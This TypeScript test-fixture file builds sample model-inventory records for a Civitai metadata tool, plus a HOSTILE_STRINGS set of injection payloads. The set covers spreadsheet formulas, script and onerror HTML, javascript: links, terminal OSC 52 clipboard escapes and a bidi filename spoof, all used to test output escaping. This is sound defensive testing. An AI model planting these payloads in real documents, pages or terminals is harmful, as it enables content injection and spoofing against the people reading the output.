/**
 * Builders of realistic inventories for tests, hostile names included (docs/reliability.md §4.3–§4.5,
 * docs/cases.md D6, F1, F2). Every builder returns fresh objects, so a test may mutate what it gets.
 */
import { SCHEMA_VERSION, type Inventory, type InventoryOptions } from "../../src/report/inventory-types.ts";
import type { LocalInfo, ModelSpecInfo, SidecarInfo, TrainingInfo } from "../../src/local/local-types.ts";
import type { CivitaiInfo, FileRecord, MatchedFile, RecordStatus, SidecarIdentity } from "../../src/report/record-types.ts";

const SAMPLE_ROOT = "/models";
const SAMPLE_GENERATED_AT = "2025-01-02T03:04:05.678Z";

/** Deterministic lower-case hex of `length` from a seed (not a real hash; looks like one). */
function fakeHex(seed: string, length = 64): string {
  let h = 2166136261;
  let out = "";
  while (out.length < length) {
    for (let i = 0; i < seed.length; i++) h = Math.imul(h ^ seed.charCodeAt(i), 16777619) >>> 0;
    h = Math.imul(h ^ out.length, 16777619) >>> 0;
    out += h.toString(16).padStart(8, "0");
  }
  return out.slice(0, length);
}

/**
 * Strings that break naive CSV, Markdown, HTML or terminals. Keys name the attack; values are the
 * exact text. Use `Object.values(HOSTILE_STRINGS)` to spray them over every field.
 */
export const HOSTILE_STRINGS = {
  // docs/cases.md F1: spreadsheet formulas and separators
  hyperlink: '=HYPERLINK("http://x?"&A1,"click")',
  minusFormula: "-2+3",
  plusOne: "+1",
  atSum: "@SUM(1)",
  leadingTab: "\tTabbed",
  leadingCr: "\rCarriage",
  leadingLf: "\nLinefeed",
  separators: 'a,b;c"d""e',
  innerNewlines: "line1\nline2\r\nline3\rline4",
  owaspExample: '=1+2";=1+2',
  // docs/cases.md F2: Markdown and HTML
  pipe: "left | right",
  backslashPipe: "left \\| right",
  backticks: "code `x` here",
  tripleBackticks: "```\nfenced\n```",
  jsLink: "[x](javascript:alert(1))",
  phishingLinkText: "A](https://phishing.example) [t",
  imgOnerror: "<img src=x onerror=alert(1)>",
  trackerImage: "![](http://tracker.example/p.png)",
  script: "<script>alert(1)</script>",
  autolink: "<https://evil.example/>",
  bareUrl: "see https://evil.example/x and www.evil.example",
  email: "mail me at evil@evil.example",
  entity: "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62;",
  heading: "# Heading",
  listMarker: "- item",
  emphasis: "*bold* _it_ ~~strike~~ $x^2$",
  // docs/cases.md D6: terminal escapes
  escOsc52: "evil\u001b]52;c;SGVsbG8=\u0007name",
  escCsi: "red\u001b[31mtext\u001b[0m",
  bidi: "abc\u202Egpj.exe",
  // Unicode that must survive intact
  cjk: "模型名称テスト",
  emoji: "🦊 fox 👩‍💻",
} as const;

export function makeMatchedFile(overrides: Partial<MatchedFile> = {}): MatchedFile {
  return {
    id: 1001,
    name: "model.safetensors",
    sizeKB: 144_110.5,
    type: "Model",
    primary: true,
    format: "SafeTensor",
    fp: "fp16",
    size: "pruned",
    hashes: { SHA256: fakeHex("sha"), AutoV2: fakeHex("sha", 10) },
    ...overrides,
  };
}

export function makeCivitai(overrides: Partial<CivitaiInfo> = {}): CivitaiInfo {
  const modelId = overrides.modelId === undefined ? 100 : overrides.modelId;
  const versionId = overrides.versionId ?? 200;
  const matchedFile = overrides.matchedFile === undefined ? makeMatchedFile() : overrides.matchedFile;
  return {
    modelId,
    modelName: "Detail Tweaker",
    modelType: "LORA",
    versionId,
    versionName: "v1.0",
    baseModel: "SD 1.5",
    baseModelType: "Standard",
    trainedWords: ["detailed", "sharp focus"],
    nsfw: false,
    nsfwLevel: 1,
    availability: { archived: false, takenDown: false, earlyAccess: false, paidAccess: false },
    createdAt: "2024-03-01T10:00:00.000Z",
    updatedAt: "2024-03-02T10:00:00.000Z",
    publishedAt: "2024-03-01T12:00:00.000Z",
    description: "Adds or removes fine detail.\n\nUse weight 0.5 to 1.",
    creator: "someartist",
    tags: ["detail", "tool"],
    license: { allowNoCredit: true, allowCommercialUse: ["Image"], allowDerivatives: true, allowDifferentLicense: false },
    pageUrl:
      modelId === null
        ? `https://civitai.com/model-versions/${versionId}`
        : `https://civitai.com/models/${modelId}?modelVersionId=${versionId}`,
    air: modelId === null ? null : `urn:air:sd1:lora:civitai:${modelId}@${versionId}`,
    matchedFile,
    downloadUrl: matchedFile?.id != null ? `https://civitai.com/api/download/models/${versionId}?fileId=${matchedFile.id}` : null,
    primaryDownloadUrl: `https://civitai.com/api/download/models/${versionId}`,
    previewImageUrl: "https://image.civitai.com/xG1nkqKTMzGDvpLrqFT7WA/abc/width=450/1.jpeg",
    ...overrides,
  };
}

export function makeTraining(overrides: Partial<TrainingInfo> = {}): TrainingInfo {
  return {
    outputName: "my_style",
    baseModelVersion: "sdxl_base_v1-0",
    sourceModelName: "sd_xl_base_1.0.safetensors",
    sourceModelHash: null,
    networkModule: "networks.lora",
    networkDim: 32,
    networkAlpha: 16,
    networkArgs: null,
    resolution: "(1024, 1024)",
    epoch: 10,
    numEpochs: 10,
    steps: 2500,
    maxTrainSteps: 2500,
    clipSkip: 2,
    numTrainImages: 250,
    learningRate: "0.0001",
    optimizer: "AdamW8bit",
    mixedPrecision: "bf16",
    trainingStartedAt: "1700000000.0",
    trainingFinishedAt: "1700003600.0",
    comment: null,
    topTags: [
      { tag: "my style", count: 51 },
      { tag: "1girl", count: 60 },
    ],
    classTokens: ["mystyle woman"],
    ...overrides,
  };
}

export function makeModelSpec(overrides: Partial<ModelSpecInfo> = {}): ModelSpecInfo {
  return {
    specVersion: "1.0.0",
    architecture: "stable-diffusion-xl-v1-base/lora",
    implementation: null,
    title: "My Style",
    author: "someone",
    description: null,
    triggerPhrase: "mystyle",
    license: null,
    date: null,
    resolution: "1024x1024",
    usageHint: null,
    tags: null,
    predictionType: null,
    ...overrides,
  };
}

/** A safetensors SDXL LoRA's local section (what the header pass yields, metadata values left out). */
export function makeLocal(overrides: Partial<LocalInfo> = {}): LocalInfo {
  return {
    format: "safetensors",
    bytesRead: 4104,
    header: { length: 4096, dataOffset: 4104, metadataCount: 30 },
    tensors: { count: 7, dtypes: { F16: 7 }, parameters: 34_816 },
    guess: {
      guessed: true,
      kind: "lora",
      subtype: null,
      family: "SDXL",
      confidence: "high",
      evidence: ["cross-attention context 2048 (SDXL)"],
    },
    training: makeTraining(),
    modelspec: makeModelSpec(),
    errors: [],
    warnings: [],
    ...overrides,
  };
}

export function makeSidecarInfo(overrides: Partial<SidecarInfo> = {}): SidecarInfo {
  return {
    source: "civitai-helper",
    file: "model.civitai.info",
    status: "ok",
    modelId: 700,
    versionId: 701,
    modelName: "Deleted Model",
    versionName: "v3",
    modelType: "LORA",
    baseModel: "SDXL 1.0",
    trainedWords: ["oldword"],
    tags: [],
    creator: "gone",
    nsfw: false,
    description: null,
    size: null,
    files: [
      {
        name: "model.safetensors",
        sizeKB: 100,
        primary: true,
        sha256: fakeHex("sidecar-sha"),
        autov2: null,
        autov3: null,
        blake3: null,
        crc32: null,
      },
    ],
    deleted: null,
    activationText: null,
    preferredWeight: null,
    negativeText: null,
    notes: null,
    sdVersion: null,
    ...overrides,
  };
}

export function makeSidecarIdentity(overrides: Partial<SidecarIdentity> = {}): SidecarIdentity {
  const modelId = overrides.modelId === undefined ? 700 : overrides.modelId;
  const versionId = overrides.versionId === undefined ? 701 : overrides.versionId;
  return {
    source: "civitai-helper",
    file: "model.civitai.info",
    checkedBy: "sha256",
    modelId,
    modelName: "Deleted Model",
    modelType: "LORA",
    versionId,
    versionName: "v3",
    baseModel: "SDXL 1.0",
    trainedWords: ["oldword"],
    creator: "gone",
    nsfw: false,
    deleted: null,
    pageUrl: versionId === null ? null : `https://civitai.com/models/${modelId}?modelVersionId=${versionId}`,
    ...overrides,
  };
}

export type RecordOverrides = Partial<FileRecord>;

/**
 * A record of `status` (default "found") with plausible fields for it: found → `civitai` and
 * `matchedBy`, error → `error`, skipped → `reason` and no hashes. Overrides win.
 */
export function makeRecord(overrides: RecordOverrides = {}): FileRecord {
  const status: RecordStatus = overrides.status ?? "found";
  const path = overrides.path ?? `${SAMPLE_ROOT}/loras/detail-tweaker.safetensors`;
  if (status === "skipped") {
    return { path, aliases: [], size: null, mtime: null, hashes: {}, status, reason: "not a regular file", ...overrides };
  }
  const base: FileRecord = {
    path,
    aliases: [],
    size: 147_568_134,
    mtime: "2024-05-06T07:08:09.000Z",
    hashes: { sha256: fakeHex(path), autov2: fakeHex(path, 10), autov3: fakeHex(`${path}#v3`, 12) },
    status,
  };
  if (status === "found") {
    base.matchedBy = "sha256";
    base.host = "https://civitai.com";
    base.civitai = makeCivitai({ matchedFile: makeMatchedFile({ hashes: { SHA256: base.hashes.sha256 ?? "" } }) });
  } else if (status === "not_found") {
    base.host = "https://civitai.com";
  } else if (status === "error") {
    base.error = "HTTP 503 from https://civitai.com/api/v1/model-versions/by-hash (after 4 tries)";
  }
  return { ...base, ...overrides };
}

function makeOptions(overrides: Partial<InventoryOptions> = {}): InventoryOptions {
  return {
    apiUrl: "https://civitai.com",
    fallbackUrl: null,
    offline: false,
    details: true,
    refresh: false,
    extensions: [".safetensors", ".ckpt", ".pt"],
    exclude: [],
    algos: ["sha256", "autov2", "autov3"],
    ...overrides,
  };
}

/** An inventory around `records` whose summary agrees with them (skipped files' bytes excluded). */
export function makeInventory(records: FileRecord[], overrides: Partial<Inventory> = {}): Inventory {
  const byStatus: Record<RecordStatus, number> = { found: 0, gone: 0, not_found: 0, error: 0, skipped: 0 };
  let bytes = 0;
  for (const r of records) {
    byStatus[r.status]++;
    if (r.status !== "skipped" && r.size !== null) bytes += r.size;
  }
  return {
    schemaVersion: SCHEMA_VERSION,
    generatedAt: SAMPLE_GENERATED_AT,
    tool: { name: "civitai-meta", version: "0.1.0" },
    roots: [SAMPLE_ROOT],
    options: makeOptions(),
    summary: {
      files: records.length,
      byStatus,
      bytes,
      durationMs: 1234,
      requests: 3,
      cacheHits: { hashes: 1, metadata: 0 },
    },
    records,
    ...overrides,
  };
}

/** A realistic library: two versions of one model, another model, an ambiguous file, links, misses, errors, skips. */
export function sampleInventory(): Inventory {
  const ambiguousA = makeCivitai({ modelId: 300, modelName: "Shared Hash A", versionId: 301, versionName: "A1" });
  const ambiguousB = makeCivitai({ modelId: 310, modelName: "Shared Hash B", versionId: 311, versionName: "B1" });
  const records: FileRecord[] = [
    makeRecord({ path: `${SAMPLE_ROOT}/loras/detail-tweaker.safetensors` }),
    makeRecord({
      path: `${SAMPLE_ROOT}/loras/detail-tweaker-v2.safetensors`,
      aliases: [`${SAMPLE_ROOT}/links/dt2.safetensors`],
      civitai: makeCivitai({ versionId: 201, versionName: "v2.0", baseModel: "SDXL 1.0", trainedWords: ["detailed"] }),
    }),
    makeRecord({
      path: `${SAMPLE_ROOT}/checkpoints/realistic.safetensors`,
      size: 2_132_625_432,
      matchedBy: "autov3",
      civitai: makeCivitai({
        modelId: 4201,
        modelName: "Realistic Vision",
        modelType: "Checkpoint",
        versionId: 130072,
        versionName: "V6.0 B1 (VAE)",
        trainedWords: [],
        tags: ["photorealistic", "base model"],
        creator: null,
        nsfw: true,
        license: null,
        matchedFile: null,
        availability: { archived: true, takenDown: false, earlyAccess: false, paidAccess: false },
        description: "A".repeat(500),
      }),
      knownFrom: "civitai",
      local: makeLocal({
        training: undefined,
        guess: { guessed: true, kind: "checkpoint", subtype: null, family: "SD 1.x", confidence: "medium", evidence: [] },
      }),
    }),
    makeRecord({ path: `${SAMPLE_ROOT}/loras/shared.safetensors`, civitai: ambiguousA, ambiguous: [ambiguousA, ambiguousB] }),
    makeRecord({ path: `${SAMPLE_ROOT}/embeddings/mine.pt`, status: "not_found", size: 25_000 }),
    makeRecord({ path: `${SAMPLE_ROOT}/vae/broken.safetensors`, status: "error" }),
    makeRecord({ path: `${SAMPLE_ROOT}/loras/in-progress.safetensors.part`, status: "skipped", reason: "in progress (.part)" }),
    makeRecord({ path: `${SAMPLE_ROOT}/fifo.safetensors`, status: "skipped" }),
    // Not on Civitai (deleted there), but Civitai Helper's sidecar from earlier names it.
    makeRecord({
      path: `${SAMPLE_ROOT}/loras/Ünïcode 模型 🦊.safetensors`,
      status: "not_found",
      size: 0,
      knownFrom: "sidecar:civitai-helper",
      sidecar: makeSidecarIdentity({ file: "Ünïcode 模型 🦊.civitai.info" }),
      local: makeLocal({ sidecars: [makeSidecarInfo({ file: "Ünïcode 模型 🦊.civitai.info" })] }),
    }),
  ];
  return makeInventory(records);
}

/**
 * Four records per hostile string (found, not found, error, skipped): that string in every untrusted field (names, creator, tags,
 * trained words, base model, description, error/reason, and the local file name), so one
 * render exercises every (string × field) pair.
 */
export function hostileInventory(strings: readonly string[] = Object.values(HOSTILE_STRINGS)): Inventory {
  const records: FileRecord[] = [];
  strings.forEach((s, i) => {
    const path = `${SAMPLE_ROOT}/hostile/${i}/${s}.safetensors`;
    const civitai = makeCivitai({
      modelId: 9000 + i,
      versionId: 19000 + i,
      modelName: s,
      versionName: s,
      modelType: s,
      baseModel: s,
      creator: s,
      tags: [s, `plain-${i}`],
      trainedWords: [s, `word ${i}`],
      description: `${s} — described`,
      matchedFile: makeMatchedFile({ id: 29000 + i, name: s }),
    });
    // Text from the file's own header and from sidecars is as untrusted as Civitai's.
    const local = makeLocal({
      formatMismatch: s,
      training: makeTraining({ baseModelVersion: s, classTokens: [s, `token ${i}`], topTags: [{ tag: s, count: 3 }] }),
      modelspec: makeModelSpec({ triggerPhrase: s, architecture: s }),
      errors: [s],
      warnings: [s],
      sidecars: [makeSidecarInfo({ file: s, status: "not-found", modelName: s })],
    });
    records.push(
      makeRecord({ path, civitai, knownFrom: "civitai", local: { ...local, modelspec: makeModelSpec({ triggerPhrase: null }) } }),
    );
    const sidecar = makeSidecarIdentity({
      source: "lora-manager",
      file: s,
      modelName: s,
      versionName: s,
      modelType: s,
      baseModel: s,
      trainedWords: [s],
      creator: s,
    });
    records.push(
      makeRecord({ path: `${SAMPLE_ROOT}/hostile-miss/${i}/${s}`, status: "not_found", knownFrom: "sidecar:lora-manager", sidecar, local }),
    );
    records.push(makeRecord({ path: `${SAMPLE_ROOT}/hostile-error/${i}/${s}`, status: "error", error: s }));
    records.push(makeRecord({ path: `${SAMPLE_ROOT}/hostile-skip/${i}/${s}`, status: "skipped", reason: s }));
  });
  return makeInventory(records);
}
